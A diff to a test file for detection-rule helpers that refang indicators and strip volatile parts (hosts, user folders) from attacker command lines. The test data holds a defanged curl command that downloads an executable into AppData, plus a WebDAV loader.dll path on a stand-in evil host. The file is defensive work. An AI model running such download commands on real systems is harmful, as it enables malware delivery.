@@ -1,11 +1,11 @@
 import { asExecuted, stableParts, withoutShellVariables } from './command-values';
 
 describe('command-line values a rule can keep', () => {
-  it('refangs indicators and undoubles a batch file\'s %%VAR%%', () => {
+  it("refangs indicators and undoubles a batch file's %%VAR%%", () => {
     expect(asExecuted('curl hxxp://203.0.113[.]5/a -o %%APPDATA%%\\a.exe')).toBe('curl http://203.0.113.5/a -o %APPDATA%\\a.exe');
   });
 
-  it('cuts out the intrusion\'s hosts, placeholders, user folders, secrets and made-up file names', () => {
+  it("cuts out the intrusion's hosts, placeholders, user folders, secrets and made-up file names", () => {
     expect(stableParts('http://203.0.113.5:8080/gate/panel.php')).toEqual(['http://', '/gate/panel.php']);
     expect(stableParts('\\\\files.evil.example@SSL\\DavWWWRoot\\loader.dll')).toEqual(['\\DavWWWRoot\\loader.dll']);
     expect(stableParts('C:\\Users\\{REDACTED}\\AppData\\Roaming\\svc.exe')).toEqual(['\\AppData\\Roaming\\svc.exe']);
